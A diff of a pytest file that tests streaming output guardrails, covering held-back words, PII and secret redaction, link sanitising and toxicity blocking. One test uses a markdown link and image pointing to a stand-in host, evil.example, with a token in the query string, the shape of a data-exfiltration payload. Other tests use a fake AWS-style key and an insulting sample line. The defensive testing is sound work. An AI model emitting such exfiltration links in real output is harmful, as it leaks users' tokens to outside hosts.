@@ -6,7 +6,8 @@ from __future__ import annotations
 import pytest
 
 from basementbrew.config import SafetyConfig
-from basementbrew.safety.guardrails import Guardrails
+from basementbrew.safety.guardrails import STREAM_FIRST_EMIT, Guardrails
+from basementbrew.safety.scanners.sanitize import _IMAGE, _LINK
 
 SPLITS = [1, 2, 3, 5, 7]
 
@@ -19,7 +20,7 @@ def guard() -> Guardrails:
 def test_the_first_words_are_released_without_a_fixed_hold_back(guard):
     sg = guard.stream()
     out = [sg.feed(piece).text for piece in ["The", " capital", " of", " France", " is", " Paris", "."]]
-    assert out[:4] == ["", "", "", ""] and out[4] == "The capital of France "  # a few words, not 64 + 32 chars
+    assert out[0] == "" and out[1] == "The "  # the first word, once the next delta shows it is whole
     assert "".join(out) + sg.finish().text == "The capital of France is Paris."
 
 
@@ -38,8 +39,79 @@ def test_a_card_number_streamed_in_groups_never_leaks_unredacted(guard, size):
 
 @pytest.mark.parametrize("size", SPLITS)
 def test_streamed_equals_whole_for_plain_and_pii_text(guard, size):
-    for text in ("Mash at 67 C for 60 minutes, then boil 60 minutes with 30 g of hops at 60 minutes.",
-                 "Write to jane.doe@example.com or call +1 415 555 0132 before noon on Friday, thanks."):
+    for text in (
+        "Mash at 67 C for 60 minutes, then boil 60 minutes with 30 g of hops at 60 minutes.",
+        "Write to jane.doe@example.com or call +1 415 555 0132 before noon on Friday, thanks.",
+    ):
         sg = guard.stream()
         out = "".join(sg.feed(text[i : i + size]).text for i in range(0, len(text), size)) + sg.finish().text
         assert out == guard.check_output(text).text
+
+
+def _first_emit(guard: Guardrails, deltas: list[str]) -> tuple[int, str]:
+    """(how many deltas went in before the first text came out, that text)."""
+    sg = guard.stream()
+    for k, delta in enumerate(deltas, 1):
+        text = sg.feed(delta).text
+        if text:
+            return k, text
+    return len(deltas) + 1, sg.finish().text
+
+
+def test_an_unfinished_word_is_held_even_at_the_start(guard):
+    k, text = _first_emit(guard, ["Bre", "wing", " a", " pale", " ale", " at", " home."])
+    assert (k, text) == (3, "Brewing ")  # not "Bre": an unfinished word could still become PII or worse
+
+
+@pytest.mark.parametrize("opening", ["[the docs", "![a diagram", "See [the docs"])
+def test_an_unfinished_link_at_the_start_is_held_until_it_is_complete(guard, opening):
+    text = opening + "](https://evil.example/c?token=aaaaaaaaaaaaaaaaaaaaaaaa) and then some plain words follow."
+    sg = guard.stream()
+    pieces = []
+    for i in range(0, len(text), 3):
+        pieces.append(sg.feed(text[i : i + 3]).text)
+        assert "[" not in "".join(pieces)  # nothing from the "[" on goes out before the link is complete
+        if "evil" in text[: i + 3]:
+            break
+    out = "".join(pieces)
+    for delta in [text[j : j + 3] for j in range(i + 3, len(text), 3)]:
+        out += sg.feed(delta).text
+    out += sg.finish().text
+    assert "evil.example" not in out and _LINK.search(out) is None and _IMAGE.search(out) is None
+    assert out == guard.check_output(text).text
+
+
+def test_a_secret_like_first_word_is_never_emitted_in_part(guard):
+    key = "AKIA" + "ABCDEFGHIJKLMNOP"
+    deltas = [key[:4], key[4:9], key[9:], " is", " the", " access", " key", " you", " asked", " for."]
+    sg = guard.stream()
+    out = ""
+    for delta in deltas:
+        out += sg.feed(delta).text
+        assert "AKIA" not in out
+    out += sg.finish().text
+    assert key not in out and "[SECRET]" in out
+
+
+def test_a_short_opening_the_chain_blocks_is_held_not_emitted_and_does_not_stop_the_stream(guard):
+    assert not guard.check_output("Look: !").allowed  # the classifier's noise on a few characters
+    deltas = ["Look", ":", " !", " Here", " is", " how", " you", " brew", " a", " lager", " at", " home", "."]
+    sg = guard.stream()
+    pieces = [sg.feed(d) for d in deltas]
+    assert all(p.allowed for p in pieces)
+    first = next(i for i, p in enumerate(pieces) if p.text)
+    assert first > 2 and guard.check_output("".join(deltas[: first + 1])).allowed  # judged again with more words
+    assert "".join(p.text for p in pieces) + sg.finish().text == "".join(deltas)
+
+
+def test_a_toxic_opening_is_never_emitted_and_stops_the_stream_once_long_enough(guard):
+    deltas = ["Stupid", " moron", ",", " nobody", " wants", " your", " questions", " here", "."]
+    sg = guard.stream()
+    out, seen, result = "", "", None
+    for d in deltas:
+        result = sg.feed(d)
+        out, seen = out + result.text, seen + d
+        if not result.allowed:
+            break
+    assert out == "" and result is not None and not result.allowed and result.reason.startswith("toxicity:")
+    assert len(seen) - len(d) < STREAM_FIRST_EMIT  # stopped by the first delta that reached STREAM_FIRST_EMIT
